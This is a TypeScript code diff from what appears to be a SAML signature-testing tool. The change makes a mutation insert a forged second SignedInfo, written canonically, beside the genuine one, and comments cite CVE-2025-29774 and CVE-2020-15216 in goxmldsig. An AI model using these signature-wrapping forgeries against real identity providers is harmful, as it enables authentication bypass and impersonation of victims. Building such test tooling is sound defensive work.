@@ -3,9 +3,11 @@
 import type { Facts, Mutation } from '../protocol/types.ts';
 import { escapeText } from '../protocol/xml.ts';
 import { edit, editInner, innersOf } from './elements.ts';
-import { findAll, outerOf } from '../protocol/xml-text.ts';
+import { findAll, outerOf, rootOf, setAttribute, type Span } from '../protocol/xml-text.ts';
 import { eachSignature } from './signatures.ts';
 import { renamed, victimTwin, withNameIdContent, withVictimContent } from './victim.ts';
+
+const dsig = 'http://www.w3.org/2000/09/xmldsig#';
 
 /** What an attacker appends to the victim's name to get an account of their own at the identity provider. */
 const suffix = '.attacker.example';
@@ -93,14 +95,26 @@ function decoyDigest(value: string): string {
   return `<DigestValue xmlns="http://www.w3.org/2000/09/xmldsig#">${value}</DigestValue>`;
 }
 
-/** Content of the victim, a second SignedInfo with the fitting digest beside the genuine one (CVE-2025-29774). */
+/** A SignedInfo as canonical text writes it: with its own namespace, and a tag at the end of every element. */
+function standing(xml: string, signedInfo: Span): string {
+  const prefix = signedInfo.name.split(':').slice(0, -1);
+  const text = outerOf(xml, signedInfo).replaceAll(/<([\w:-]+)([^<>]*?)\/>/g, '<$1$2></$1>');
+  const root = rootOf(text);
+  return root === undefined ? text : setAttribute(text, root, ['xmlns', ...prefix].join(':'), dsig);
+}
+
+/**
+ * Content of the victim, a second SignedInfo with the fitting digest beside the genuine one (CVE-2025-29774). Both are written
+ * canonically: goxmldsig before 1.1.0 canonicalizes only the first of them, and verifies the other one as it stands (CVE-2020-15216).
+ */
 export function secondSignedInfo(position: 'first' | 'last'): Mutation {
   return {
     afterSigning: (xml, facts) => {
       const twin = victimTwin(facts);
-      const fitting = findAll(twin, 'SignedInfo').map((span) => outerOf(twin, span));
-      return edit(withVictimContent(xml, facts), 'SignedInfo', (genuine, index) => {
-        const forged = fitting[index] ?? '';
+      const fitting = findAll(twin, 'SignedInfo').map((span) => standing(twin, span));
+      const own = findAll(xml, 'SignedInfo').map((span) => standing(xml, span));
+      return edit(withVictimContent(xml, facts), 'SignedInfo', (written, index) => {
+        const [forged, genuine] = [fitting[index] ?? '', own[index] ?? written];
         return position === 'first' ? forged + genuine : genuine + forged;
       });
     },
